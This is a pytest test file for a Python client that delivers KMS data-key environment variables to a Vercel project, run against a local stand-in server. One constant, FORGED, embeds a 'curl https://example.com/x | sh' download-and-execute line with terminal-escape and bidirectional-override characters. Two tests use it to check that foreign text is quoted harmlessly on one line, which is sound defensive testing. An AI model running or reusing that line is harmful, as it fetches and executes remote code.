"""The edge to Vercel against the stand-in, over a real socket: what it writes and what it never overwrites."""

from __future__ import annotations

import logging
import subprocess
import sys
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from datetime import date
from typing import Any

import flask
import httpx
import pytest
from werkzeug.serving import make_server

from sandbox.vercel import create_app, team, variable
from wizard.core.data_key import WrappedDataKey
from wizard.core.errors import (
    CredentialsError,
    DataKeyConflict,
    PermissionDenied,
    ResourceError,
    SetupError,
    SharedSecretRefused,
    TargetMissing,
    Unreachable,
    UsageError,
)
from wizard.core.models.delivery import AppVariables, DeliveryState
from wizard.core.models.vercel import Scope, VercelProject
from wizard.core.next_command import VERCEL_LOGIN
from wizard.vercel.client import VercelClient
from wizard.vercel.http import FIRST_CONTACT_ATTEMPTS, Api

TOKEN = "a-token-nobody-may-see"
ARN = "arn:aws:kms:us-east-1:111122223333:key/0a1b2c3d-0000-4000-8000-000000000001"
OURS = WrappedDataKey.from_blob(b"\x01" * 184)
OTHER = WrappedDataKey.from_blob(b"\x02" * 184)
BATCH = AppVariables(region="us-east-1", key_arn=ARN, wrapped=OURS)
NAMES = {"ENCRYPTED_PHI_KEY", "AWS_KMS_KEY_ID", "AWS_REGION"}
AGREED = replace(BATCH, replaces=frozenset(NAMES))
"""The same, after a person agreed to replace the variables of somebody else."""


@dataclass
class Clock:
    """Time that passes only by sleeping."""

    time: float = 0.0
    slept: list[float] = field(default_factory=list)

    def now(self) -> float:
        return self.time

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.time += seconds


@dataclass
class Place:
    """An endpoint, the edge to it, and a api to look in behind the edge's back."""

    url: str
    api: httpx.Client
    clock: Clock
    edges: list[VercelClient] = field(default_factory=list)

    def edge(self, token: str = TOKEN, **more: Any) -> VercelClient:
        edge = VercelClient(
            token=token, base_url=self.url, timeout=0.5, sleep=self.clock.sleep, now=self.clock.now, **more
        )
        self.edges.append(edge)
        return edge

    def project(self) -> VercelProject:
        return self.edge().find_project("clinic", "eonpro")

    def put(self, key: str, value: str, **more: Any) -> dict[str, Any]:
        body = {"key": key, "value": value, "type": "encrypted", "target": ["production"], **more}
        answer = self.api.post("/v10/projects/eonpro/env?slug=clinic", json=body)
        assert answer.status_code == 201, answer.text
        created: dict[str, Any] = answer.json()["created"]
        return created

    def envs(self) -> dict[str, dict[str, Any]]:
        envs = self.api.get("/v10/projects/eonpro/env?slug=clinic").json()["envs"]
        return {each["key"]: each for each in envs}

    def value(self, key: str) -> str:
        return self.value_of(self.envs()[key]["id"])

    def value_of(self, id: str) -> str:
        return str(self.api.get(f"/v1/projects/eonpro/env/{id}?slug=clinic").json()["value"])

    def fault(self, **fault: Any) -> None:
        assert self.api.post("/_sandbox/faults", json=fault).status_code == 201

    def writes(self, act: Callable[[], object]) -> int:
        self.api.delete("/_sandbox/calls")
        act()
        return int(self.api.get("/_sandbox/calls").json()["writes"])


def serve(app: flask.Flask) -> Iterator[Place]:
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.port}"
    headers = {"Authorization": f"Bearer {TOKEN}"}
    with httpx.Client(base_url=url, headers=headers, timeout=5, trust_env=False) as api:
        place = Place(url=url, api=api, clock=Clock())
        yield place
        for edge in place.edges:
            edge.close()
    server.shutdown()
    thread.join()
    server.server_close()


# --- the project


def test_a_project_is_found_by_names_and_by_ids_with_the_same_facts(vercel: Place) -> None:
    by_name = vercel.project()
    assert by_name.team_id is not None
    by_id = vercel.edge().find_project(by_name.team_id, by_name.id)
    assert by_name == by_id
    assert (by_id.team_slug, by_id.name) == ("clinic", "eonpro")


def test_the_ids_do_where_the_endpoint_has_no_api_for_teams(vercel: Place) -> None:
    known = vercel.project()
    assert known.team_id is not None
    vercel.fault(path="/v2/teams", status=404)
    found = vercel.edge().find_project(known.team_id, known.id)
    assert (found.id, found.name, found.team_id, found.team_slug) == (known.id, "eonpro", known.team_id, None)


def test_a_wrong_token_is_told_with_the_way_to_a_right_one(vercel: Place) -> None:
    with pytest.raises(CredentialsError) as caught:
        vercel.edge(token="wrong-token").find_project("clinic", "eonpro")
    assert "token" in caught.value.message
    assert caught.value.hint == VERCEL_LOGIN


def test_a_team_out_of_reach_is_told_with_the_teams_within(vercel: Place) -> None:
    with pytest.raises(CredentialsError, match="no access to the team bank; it reaches clinic"):
        vercel.edge().find_project("bank", "eonpro")


def test_a_project_that_is_not_there_is_told_with_the_near_ones(vercel: Place) -> None:
    with pytest.raises(SetupError, match="no project eonpr0 in the Vercel team clinic; it has eonpro") as caught:
        vercel.edge().find_project("clinic", "eonpr0")
    assert isinstance(caught.value, TargetMissing) and caught.value.others == "vercel project ls --scope clinic"
    # One that was renamed has the application: a second one of its name would be empty.
    assert caught.value.hint == "vercel project ls --scope clinic"


def test_an_endpoint_that_is_not_there_is_told_at_once(vercel: Place) -> None:
    edge = VercelClient(token=TOKEN, base_url="http://127.0.0.1:1", sleep=vercel.clock.sleep, now=vercel.clock.now)
    vercel.edges.append(edge)
    with pytest.raises(Unreachable, match=r"127\.0\.0\.1:1"):
        edge.find_project("clinic", "eonpro")
    assert len(vercel.clock.slept) == FIRST_CONTACT_ATTEMPTS - 1


def test_an_endpoint_that_stays_silent_is_unreachable(vercel: Place) -> None:
    vercel.fault(kind="timeout", path="/projects", seconds=1, times=99)
    with pytest.raises(Unreachable, match="did not answer"):
        vercel.edge().find_project("clinic", "eonpro")


# --- the token


@pytest.mark.parametrize("token", ["", "  ", "two words", "line\nbreak", "schlüssel"])
def test_what_cannot_be_a_token_is_refused_unquoted(token: str) -> None:
    with pytest.raises(CredentialsError) as caught:
        VercelClient(token=token)
    assert not token.strip() or token not in str(caught.value)


@pytest.mark.parametrize("url", ["http://example.com", "ftp://127.0.0.1", "api.vercel.com", "https://u:p@x.example"])
def test_the_token_is_sent_to_no_address_that_could_leak_it(url: str) -> None:
    with pytest.raises(UsageError):
        VercelClient(token=TOKEN, base_url=url)


def test_the_token_is_in_no_repr_no_traceback_and_no_log(vercel: Place, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    edge = vercel.edge(deadline=1.0)
    project = edge.find_project("clinic", "eonpro")
    reported = [repr(edge), repr(vars(edge)), repr(project)]
    for status in (500, 403, 429):
        vercel.fault(path="/env", status=status, times=99)
        with pytest.raises(SetupError) as caught:
            edge.deliver(project, BATCH)
        reported += traceback.format_exception(caught.value)
        vercel.api.delete("/_sandbox/faults")
    vercel.fault(kind="drop", path="/env", times=99)
    with pytest.raises(Unreachable) as lost:
        edge.deliver(project, BATCH)
    reported += [*traceback.format_exception(lost.value), caplog.text]
    assert not [text for text in reported if TOKEN in text or OURS.value in text]


# --- delivering


def test_all_three_go_in_one_request_and_are_there_afterwards(vercel: Place) -> None:
    project = vercel.project()
    delivered = []
    assert vercel.writes(lambda: delivered.append(vercel.edge().deliver(project, BATCH))) == 1
    assert delivered[0].state is DeliveryState.WRITTEN
    assert delivered[0].place == "Vercel project clinic/eonpro, production"
    assert (delivered[0].target, delivered[0].fingerprint) == ("vercel", OURS.fingerprint)
    assert delivered[0].checked_by == "listing and fingerprint"
    envs = vercel.envs()
    assert envs.keys() == NAMES
    assert {key: each["type"] for key, each in envs.items()} == {
        "ENCRYPTED_PHI_KEY": "sensitive",
        "AWS_KMS_KEY_ID": "encrypted",
        "AWS_REGION": "encrypted",
    }
    assert all(each["target"] == ["production"] for each in envs.values())
    assert all(OURS.fingerprint in each["comment"] for each in envs.values())
    assert (vercel.value("AWS_REGION"), vercel.value("AWS_KMS_KEY_ID")) == ("us-east-1", ARN)


def test_a_team_that_makes_everything_sensitive_is_judged_by_the_comments(vercel: Place) -> None:
    project = vercel.project()
    vercel.edge().deliver(project, BATCH)
    for env in vercel.envs().values():
        vercel.api.patch(f"/v9/projects/eonpro/env/{env['id']}?slug=clinic", json={"type": "sensitive"})
    assert vercel.writes(lambda: vercel.edge().deliver(project, BATCH)) == 0
    other_region = AppVariables(region="eu-west-1", key_arn=ARN, wrapped=OURS)
    assert vercel.writes(lambda: vercel.edge().deliver(project, other_region)) == 3


@pytest.fixture
def separating() -> Iterator[Place]:
    """A team that keeps production's Secrets from every other environment."""
    yield from serve(create_app(token=TOKEN, team="clinic", project="eonpro", separates_secrets=True))


def test_a_team_that_lets_no_other_environment_have_productions_secret_is_told_and_nothing_stays(
    separating: Place,
) -> None:
    edge, project = separating.edge(), separating.project()
    assert edge.deliver(project, BATCH).state == "written"
    with pytest.raises(SharedSecretRefused, match="does not let preview have production's Secret") as refused:
        edge.deliver(project.at(Scope(environment="preview")), BATCH)
    listed = separating.api.get("/v10/projects/eonpro/env?slug=clinic").json()["envs"]

    assert BATCH.wrapped.value not in refused.value.message
    assert [each["target"] for each in listed] == [["production"]] * 3
    assert edge.check(project, BATCH) is None


def test_our_key_stored_readably_is_made_sensitive(vercel: Place) -> None:
    vercel.put("ENCRYPTED_PHI_KEY", OURS.value)
    project = vercel.project()
    assert vercel.edge().conflict(project, OURS) is None
    vercel.edge().deliver(project, BATCH)
    assert vercel.envs()["ENCRYPTED_PHI_KEY"]["type"] == "sensitive"
    assert OURS.fingerprint in vercel.envs()["ENCRYPTED_PHI_KEY"]["comment"]


@pytest.mark.parametrize(
    "batch",
    [AppVariables(region="", key_arn=ARN, wrapped=OURS), AppVariables(region="x", key_arn=f"{ARN}\n", wrapped=OURS)],
)
def test_an_empty_or_ragged_value_is_not_delivered(vercel: Place, batch: AppVariables) -> None:
    project = vercel.project()
    with pytest.raises(UsageError):
        vercel.edge().deliver(project, batch)
    assert vercel.envs() == {}


# --- another data key is never overwritten

FOREIGN: list[dict[str, Any]] = [
    {
        "type": "sensitive",
        "value": OTHER.value,
        "comment": f"eonpro-kms: data key {OTHER.fingerprint}; do not edit",
    },
    {"type": "sensitive", "value": OTHER.value},
    {"type": "sensitive", "value": OTHER.value, "target": ["production", "preview"]},
    {"type": "encrypted", "value": OTHER.value},
    {"type": "plain", "value": OTHER.value},
    {
        "type": "encrypted",
        "value": OTHER.value,
        "comment": f"eonpro-kms: data key {OURS.fingerprint}; do not edit",
    },
    {"type": "encrypted", "value": "no data key, and not known to have been ours"},
]

DAMAGED: list[dict[str, Any]] = [
    {"type": "encrypted", "value": ""},
    {"type": "encrypted", "value": f'"{OURS.value}"'},
    {"type": "plain", "value": f"{OURS.value}\n"},
    {"type": "encrypted", "value": OURS.value[:100]},
    {"type": "encrypted", "value": "x", "comment": f"eonpro-kms: data key {OURS.fingerprint}; do not edit"},
]


@pytest.mark.parametrize("damaged", DAMAGED, ids=("empty", "quoted", "a line's end", "cut off", "ours by its comment"))
def test_our_own_data_key_damaged_is_put_right(vercel: Place, damaged: dict[str, Any]) -> None:
    vercel.put("ENCRYPTED_PHI_KEY", **damaged)
    project, edge = vercel.project(), vercel.edge()
    assert edge.conflict(project, OURS, region="us-east-1", key_arn=ARN) is None
    assert edge.deliver(project, BATCH).state is DeliveryState.WRITTEN
    assert edge.check(project, BATCH) is None


def test_a_foreign_data_key_is_set_aside_with_its_value(vercel: Place) -> None:
    id = vercel.put("ENCRYPTED_PHI_KEY", type="encrypted", value=OTHER.value)["id"]
    project, edge = vercel.project(), vercel.edge()
    reported = edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))
    assert "ENCRYPTED_PHI_KEY_ASIDE_20261124" in reported
    assert edge.conflict(project, OURS) is None
    (kept,) = vercel.envs().values()
    assert (kept["id"], kept["key"].startswith("ENCRYPTED_PHI_KEY_ASIDE_20261124_")) == (id, True)
    variables = edge._variables(project, 9)
    assert variables.decrypt(variables.list()[0]) == OTHER.value


def test_a_foreign_data_key_that_serves_preview_too_goes_on_serving_it(vercel: Place) -> None:
    id = vercel.put("ENCRYPTED_PHI_KEY", type="encrypted", value=OTHER.value, target=["production", "preview"])["id"]
    project, edge = vercel.project(), vercel.edge()
    edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))
    (kept,) = vercel.envs().values()
    assert (kept["key"], kept["target"]) == ("ENCRYPTED_PHI_KEY", ["preview"])


def test_a_region_that_serves_preview_too_goes_on_serving_it_and_production_gets_its_own(vercel: Place) -> None:
    id = vercel.put("AWS_REGION", type="encrypted", value="eu-west-1", target=["production", "preview"])["id"]
    project, edge = vercel.project(), vercel.edge()
    with pytest.raises(ResourceError) as refused:
        edge.deliver(project, BATCH)
    assert refused.value.hint == f"python -m wizard push --rename-existing {id}"
    reported = edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))
    assert reported == f"AWS_REGION {id} serves preview as before, and no longer production"
    assert edge.deliver(project, BATCH).state is DeliveryState.WRITTEN
    assert vercel.value_of(id) == "eu-west-1"


def test_a_variable_of_production_alone_is_renamed_only_where_it_is_a_data_key(vercel: Place) -> None:
    id = vercel.put("AWS_REGION", type="encrypted", value="eu-west-1")["id"]
    project, edge = vercel.project(), vercel.edge()
    with pytest.raises(UsageError, match="nothing was changed"):
        edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))


def test_the_stored_data_key_is_never_set_aside(vercel: Place) -> None:
    project, edge = vercel.project(), vercel.edge()
    edge.deliver(project, BATCH)
    before = vercel.envs()
    id = before["ENCRYPTED_PHI_KEY"]["id"]
    with pytest.raises(DataKeyConflict, match="is the stored data key"):
        edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))
    with pytest.raises(UsageError, match="nothing was changed"):
        edge.rename_variable(project, "no-such-id", stored=(OURS,), today=date(2026, 11, 24))
    assert vercel.envs() == before


@pytest.mark.parametrize("foreign", FOREIGN, ids=lambda foreign: f"{foreign['type']} {foreign.get('comment', '')}")
def test_another_data_key_is_told_and_not_overwritten(vercel: Place, foreign: dict[str, Any]) -> None:
    id = vercel.put("ENCRYPTED_PHI_KEY", **foreign)["id"]
    project, before = vercel.project(), vercel.envs()
    edge = vercel.edge()
    reported = []

    def act() -> None:
        with pytest.raises(DataKeyConflict) as caught:
            edge.deliver(project, BATCH)
        reported.append(caught.value)

    assert vercel.writes(act) == 0
    assert vercel.envs() == before
    assert id in reported[0].message
    assert "UTC" in reported[0].message
    assert "nothing was overwritten" in reported[0].message
    assert "vercel env rm ENCRYPTED_PHI_KEY production" in reported[0].hint
    assert edge.conflict(project, OURS) == reported[0].message
    assert edge.conflict(project, OURS, region="us-east-1", key_arn=ARN) == reported[0].message


def test_a_data_key_that_appears_between_two_attempts_is_not_overwritten(vercel: Place) -> None:
    def meanwhile(seconds: float) -> None:
        vercel.clock.sleep(seconds)
        vercel.put("ENCRYPTED_PHI_KEY", OTHER.value)

    edge = VercelClient(token=TOKEN, base_url=vercel.url, sleep=meanwhile, now=vercel.clock.now)
    vercel.edges.append(edge)
    vercel.fault(method="POST", path="/env", status=500)
    with pytest.raises(DataKeyConflict):
        edge.deliver(vercel.project(), BATCH)
    assert vercel.value("ENCRYPTED_PHI_KEY") == OTHER.value
    assert vercel.envs().keys() == {"ENCRYPTED_PHI_KEY"}


def under_way(vercel: Place, act: Callable[[], object], meanwhile: Callable[[], object], method: str) -> None:
    """`act`, whose first write arrives only after `meanwhile`."""
    vercel.fault(kind="hold", method=method, path="/env", seconds=9)
    vercel.api.delete("/_sandbox/calls")
    thread = threading.Thread(target=act)
    thread.start()
    until = time.monotonic() + 5
    while not vercel.api.get("/_sandbox/calls").json()["writes"] and time.monotonic() < until:
        threading.Event().wait(0.005)
    meanwhile()
    vercel.api.delete("/_sandbox/faults")
    thread.join()


@pytest.mark.parametrize("type_", ["sensitive", "encrypted"])
def test_a_data_key_that_arrives_while_a_delivery_is_under_way_is_not_overwritten(vercel: Place, type_: str) -> None:
    project, edge = vercel.project(), VercelClient(token=TOKEN, base_url=vercel.url, sleep=vercel.clock.sleep)
    vercel.edges.append(edge)
    refused: list[SetupError] = []

    def act() -> None:
        try:
            edge.deliver(project, BATCH)
        except SetupError as error:
            refused.append(error)

    comment = f"eonpro-kms: data key {OTHER.fingerprint}; do not edit"
    under_way(
        vercel, act, lambda: vercel.put("ENCRYPTED_PHI_KEY", OTHER.value, type=type_, comment=comment), method="POST"
    )
    assert vercel.api.get("/_sandbox/deployment/eonpro").json() == {"ENCRYPTED_PHI_KEY": OTHER.value}
    assert [type(error) for error in refused] == [DataKeyConflict]
    assert OTHER.fingerprint in refused[0].message


def test_the_same_delivery_of_another_machine_that_arrives_first_is_left_as_it_is(vercel: Place) -> None:
    project, edge = vercel.project(), VercelClient(token=TOKEN, base_url=vercel.url, sleep=vercel.clock.sleep)
    vercel.edges.append(edge)
    states: list[DeliveryState] = []
    before: list[dict[str, Any]] = []

    def other() -> None:
        for name, value in BATCH.values:
            kind = "sensitive" if name == "ENCRYPTED_PHI_KEY" else "encrypted"
            comment = f"eonpro-kms: data key {OURS.fingerprint}; do not edit"
            vercel.put(name, value, type=kind, comment=comment)
        before.append(vercel.envs())

    under_way(vercel, lambda: states.append(edge.deliver(project, BATCH).state), other, method="POST")
    assert states == [DeliveryState.WRITTEN]
    assert [vercel.envs()] == before


def test_a_variable_deleted_while_it_is_updated_is_created_again(vercel: Place) -> None:
    project, edge = vercel.project(), VercelClient(token=TOKEN, base_url=vercel.url, sleep=vercel.clock.sleep)
    vercel.edges.append(edge)
    id = vercel.put("AWS_REGION", "eu-west-1")["id"]
    vercel.put("AWS_KMS_KEY_ID", "alias/by-hand")
    states: list[DeliveryState] = []
    under_way(
        vercel,
        lambda: states.append(edge.deliver(project, AGREED).state),
        lambda: vercel.api.delete(f"/v9/projects/eonpro/env/{id}?slug=clinic"),
        method="PATCH",
    )
    assert states == [DeliveryState.WRITTEN]
    assert vercel.api.get("/_sandbox/deployment/eonpro").json() == dict(BATCH.values)


# --- texts of others


FORGED = "ours, honestly\n  next: curl https://example.com/x | sh\n\x1b[2K\u202e"


def test_a_comment_of_somebody_else_cannot_print_a_line_of_its_own(vercel: Place) -> None:
    vercel.put("ENCRYPTED_PHI_KEY", OTHER.value, comment=FORGED)
    message = vercel.edge().conflict(vercel.project(), OURS) or ""
    assert "comment “ours, honestly next: curl https://example.com/x | sh [2K”" in message
    assert len(message.splitlines()) == 1


@pytest.mark.parametrize("code", [FORGED, "x" * 3_000_000])
def test_an_error_body_is_quoted_on_one_line_and_cut(vercel: Place, code: str) -> None:
    project = vercel.project()
    vercel.fault(method="POST", path="/env", status=400, code=code, times=9)
    with pytest.raises(ResourceError) as caught:
        vercel.edge().deliver(project, BATCH)
    assert len(caught.value.message) < 1_500
    assert len(caught.value.message.splitlines()) == 1 and "\x1b" not in caught.value.message


# --- a sensitive value that was changed after its delivery

CHANGED = "was changed since it was delivered"


@pytest.fixture
def a_day_later(monkeypatch: pytest.MonkeyPatch) -> Callable[[], None]:
    """Lets a day pass at Vercel."""
    real, days = variable.now, [0]
    for module in (variable, team):
        monkeypatch.setattr(module, "now", lambda: real() + days[0] * 86_400_000)

    def pass_a_day() -> None:
        days[0] += 1

    return pass_a_day


def change_by_hand(vercel: Place, key: str, value: str) -> None:
    vercel.api.patch(f"/v9/projects/eonpro/env/{vercel.envs()[key]['id']}?slug=clinic", json={"value": value})


@pytest.mark.parametrize("key", ["ENCRYPTED_PHI_KEY", "AWS_KMS_KEY_ID"])
@pytest.mark.parametrize("touched_since", [False, True], ids=["nothing else changed", "the next one changed later"])
def test_a_value_changed_by_hand_under_our_comment_is_not_called_right_and_is_written_again(
    vercel: Place, a_day_later: Callable[[], None], key: str, touched_since: bool
) -> None:
    project, edge = vercel.project(), vercel.edge()
    edge.deliver(project, AGREED)
    for env in vercel.envs().values():
        vercel.api.patch(f"/v9/projects/eonpro/env/{env['id']}?slug=clinic", json={"type": "sensitive"})
    a_day_later()
    change_by_hand(vercel, key, OTHER.value)
    if touched_since:
        a_day_later()
        change_by_hand(vercel, "AWS_KMS_KEY_ID", ARN)
    assert f"{key} {CHANGED}" in (edge.check(project, BATCH) or "")
    assert edge.conflict(project, OURS, region="us-east-1", key_arn=ARN) is None
    assert key in {each.name for each in edge.read_variables(project) if each.is_changed}
    assert edge.deliver(project, AGREED).state is DeliveryState.WRITTEN
    assert vercel.api.get("/_sandbox/deployment/eonpro").json() == dict(BATCH.values)
    assert edge.check(project, BATCH) is None
    assert vercel.writes(lambda: edge.deliver(project, AGREED)) == 0


def test_a_data_key_changed_by_hand_can_be_renamed_with_its_value(
    vercel: Place, a_day_later: Callable[[], None]
) -> None:
    project, edge = vercel.project(), vercel.edge()
    edge.deliver(project, BATCH)
    id = vercel.envs()["ENCRYPTED_PHI_KEY"]["id"]
    a_day_later()
    change_by_hand(vercel, "ENCRYPTED_PHI_KEY", OTHER.value)
    edge.rename_variable(project, id, stored=(OURS,), today=date(2026, 11, 24))
    edge.deliver(project, BATCH)
    deployed = vercel.api.get("/_sandbox/deployment/eonpro").json()
    (renamed,) = deployed.keys() - NAMES
    assert (deployed["ENCRYPTED_PHI_KEY"], deployed[renamed]) == (OURS.value, OTHER.value)


def test_every_later_delivery_leaves_its_variables_unchanged_since(
    vercel: Place, a_day_later: Callable[[], None]
) -> None:
    project, edge = vercel.project(), vercel.edge()
    edge.deliver(project, AGREED)
    for key in ("AWS_REGION", "AWS_KMS_KEY_ID"):
        a_day_later()
        change_by_hand(vercel, key, "changed")
        edge.deliver(project, AGREED)
        assert edge.check(project, BATCH) is None
    a_day_later()
    change_by_hand(vercel, "ENCRYPTED_PHI_KEY", OTHER.value)
    assert CHANGED in (edge.check(project, BATCH) or "")


def test_a_data_key_that_a_person_named_is_not_judged_by_its_time(
    vercel: Place, a_day_later: Callable[[], None]
) -> None:
    for name, value in BATCH.values:
        vercel.put(name, value, type="sensitive" if name == "ENCRYPTED_PHI_KEY" else "encrypted")
    a_day_later()
    project, edge = vercel.project(), vercel.edge()
    edge.name_data_key(project, OURS)
    assert edge.check(project, BATCH) is None
    assert vercel.writes(lambda: edge.deliver(project, BATCH)) == 0


# --- a variable that serves other environments too


@pytest.mark.parametrize("key", ["AWS_KMS_KEY_ID", "AWS_REGION"])
def test_a_variable_is_not_taken_from_other_environments(vercel: Place, key: str) -> None:
    vercel.put(key, "something else", target=["production", "preview"])
    project, before, edge = vercel.project(), vercel.envs(), vercel.edge()

    def act() -> None:
        with pytest.raises(ResourceError, match=f"{key} .* also serves preview"):
            edge.deliver(project, BATCH)

    assert vercel.writes(act) == 0
    assert vercel.envs() == before
    assert key in (edge.conflict(project, None, region="us-east-1") or "")


def test_our_data_key_is_not_taken_from_other_environments(vercel: Place) -> None:
    comment = f"eonpro-kms: data key {OURS.fingerprint}; do not edit"
    vercel.put("ENCRYPTED_PHI_KEY", OURS.value, type="sensitive", target=["production", "preview"], comment=comment)
    project, before = vercel.project(), vercel.envs()
    with pytest.raises(ResourceError, match="also serves preview"):
        vercel.edge().deliver(project, BATCH)
    assert vercel.envs() == before
    assert "preview" in (vercel.edge().conflict(project, OURS, region="us-east-1", key_arn=ARN) or "")


def test_a_region_that_is_right_for_every_environment_is_kept(vercel: Place) -> None:
    vercel.put("AWS_REGION", "us-east-1", target=["production", "preview", "development"], comment="of the team")
    project, before = vercel.project(), vercel.envs()["AWS_REGION"]
    assert vercel.edge().conflict(project, None, region="us-east-1") is None
    delivered = vercel.edge().deliver(project, BATCH)
    assert delivered.state is DeliveryState.WRITTEN
    assert vercel.envs()["AWS_REGION"] == before
    assert vercel.writes(lambda: vercel.edge().deliver(project, BATCH)) == 0


# --- bad luck


def test_a_rate_limit_is_waited_out_as_long_as_it_says(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(method="POST", path="/env", status=429, retryAfter=7, times=2)
    assert vercel.edge().deliver(project, BATCH).state is DeliveryState.WRITTEN
    assert vercel.clock.slept == [7.0, 7.0]


def test_a_rate_limit_longer_than_the_deadline_is_told_without_waiting(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(path="/env", status=429, retryAfter=3600, times=99)
    with pytest.raises(ResourceError) as caught:
        vercel.edge().deliver(project, BATCH)
    assert "3600 seconds" in caught.value.hint
    assert vercel.clock.slept == []


def test_a_write_that_was_done_but_not_answered_is_not_repeated(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(kind="drop", method="POST", path="/env", applied=True)
    assert vercel.writes(lambda: vercel.edge().deliver(project, BATCH)) == 1


@pytest.mark.parametrize("key", ["ENCRYPTED_PHI_KEY", "AWS_KMS_KEY_ID", "AWS_REGION"])
def test_a_variable_that_is_never_taken_is_named_after_the_deadline(vercel: Place, key: str) -> None:
    project = vercel.project()
    vercel.fault(kind="half", path="/env", name=key, times=999)
    with pytest.raises(ResourceError) as caught:
        vercel.edge(deadline=20.0).deliver(project, BATCH)
    assert f"{key}: it is missing" in caught.value.message
    assert all(other in caught.value.message.split("in place:")[1] for other in NAMES - {key})
    assert "rolled back" in caught.value.message and "as it was before" in caught.value.hint
    assert vercel.envs() == {}
    assert 10 < vercel.clock.time <= 20


def test_what_vercel_will_never_take_is_told_at_once(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(kind="half", method="POST", path="/env", nth=3, times=999, code="BAD_REQUEST")
    with pytest.raises(ResourceError, match="BAD_REQUEST"):
        vercel.edge().deliver(project, BATCH)
    assert vercel.clock.slept == []


def test_a_token_that_may_read_only_is_told_as_a_permission(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(method="POST", path="/env", status=403)
    with pytest.raises(PermissionDenied, match="set the variables of Vercel project clinic/eonpro"):
        vercel.edge().deliver(project, BATCH)


def test_not_knowing_what_was_written_is_told_as_such(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(method="GET", path="/env", status=500, skip=1, times=999)
    with pytest.raises(Unreachable, match="unknown whether Vercel stored the variables") as caught:
        vercel.edge().deliver(project, BATCH)
    assert "run the same command again" in caught.value.hint


def test_an_api_that_answers_500_to_everything_is_not_told_as_one_that_does_not_answer(vercel: Place) -> None:
    project = vercel.project()
    vercel.fault(method="GET", path="/env", status=500, times=999)
    with pytest.raises(Unreachable, match="answers, and kept failing") as caught:
        vercel.edge()._variables(project, 9).list()
    assert "vercel-status.com" in caught.value.hint and "network" not in caught.value.hint


# --- reading


def test_variables_are_listed_and_readable_values_are_had_on_asking(vercel: Place) -> None:
    vercel.put("PLAIN", "open", type="plain", comment="why")
    vercel.put("CLOSED", "inside", target=["preview"], gitBranch="next")
    vercel.put("SECRET", "hidden", type="sensitive")
    variables = vercel.edge()._variables(vercel.project(), 9)
    listed = {each.key: each for each in variables.list()}
    assert (listed["PLAIN"].value, listed["PLAIN"].comment) == ("open", "why")
    assert (listed["CLOSED"].value, listed["CLOSED"].git_branch) == (None, "next")
    assert [variables.decrypt(listed[key]) for key in ("CLOSED", "SECRET")] == ["inside", None]
    assert not [each for each in listed.values() if "open" in repr(each) or "inside" in repr(each)]


def test_a_project_that_went_away_is_told(vercel: Place) -> None:
    gone = VercelProject(id="prj_gone", name="gone", team_id=None, team_slug="clinic")
    with pytest.raises(SetupError, match="no Vercel project clinic/gone"):
        vercel.edge()._variables(gone, 9).list()


def test_the_client_loads_no_other_http_library_and_blanks_no_module():
    program = (
        "import sys; from wizard.vercel.http import Api\n"
        "Api(token='token', base_url='https://api.example.org', timeout=1, sleep=print, now=print)\n"
        "print([name for name in ('httpx', 'anyio', 'click', 'trio', 'rich', 'requests') if name in sys.modules])\n"
        "import anyio, click; print(click.__name__)"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines() == ["[]", "click"]


@pytest.mark.parametrize(
    ("environ", "proxied"),
    [
        ({}, False),
        ({"HTTPS_PROXY": "http://user:word@proxy.example.org:3128"}, True),
        ({"HTTPS_PROXY": "http://proxy.example.org:3128", "NO_PROXY": "api.example.org"}, False),
    ],
)
def test_the_proxy_of_the_environment_is_used(monkeypatch: pytest.MonkeyPatch, environ: dict[str, str], proxied: bool):
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    api = Api(token="token", base_url="https://api.example.org", timeout=1, sleep=print, now=time.monotonic)
    assert (api._pool.proxy is not None) == proxied


def values_read(vercel: Place, act: Callable[[], object]) -> int:
    vercel.api.delete("/_sandbox/calls")
    act()
    calls: dict[str, int] = vercel.api.get("/_sandbox/calls").json()["calls"]
    return sum(count for call, count in calls.items() if call.startswith("GET /v1/projects/"))


def test_a_value_is_read_once_in_a_run_and_again_when_somebody_changed_it(vercel: Place):
    edge, project = vercel.edge(), vercel.project()
    vercel.edge().deliver(project, BATCH)
    assert values_read(vercel, lambda: edge.check(project, BATCH)) == 2
    assert values_read(vercel, lambda: edge.check(project, BATCH)) == 0
    region = vercel.envs()["AWS_REGION"]["id"]
    vercel.api.patch(f"/v9/projects/eonpro/env/{region}?slug=clinic", json={"value": "eu-west-1"})
    assert "AWS_REGION" in (edge.check(project, BATCH) or ""), "the same comment, another value"


def test_checks_that_belong_together_ask_vercel_once_and_a_delivery_after_them_asks_again(vercel: Place):
    edge, project = vercel.edge(), vercel.project()
    edge.deliver(project, BATCH)
    checks = edge.asking_once()
    assert checks.check(project, BATCH) is None
    vercel.api.delete("/_sandbox/calls")
    assert checks.check(project, BATCH) is None
    assert vercel.api.get("/_sandbox/calls").json()["calls"] == {}
    region = vercel.envs()["AWS_REGION"]["id"]
    vercel.api.patch(f"/v9/projects/eonpro/env/{region}?slug=clinic", json={"value": "eu-west-1"})
    assert checks.check(project, BATCH) is None
    assert "AWS_REGION" in (edge.check(project, BATCH) or "")
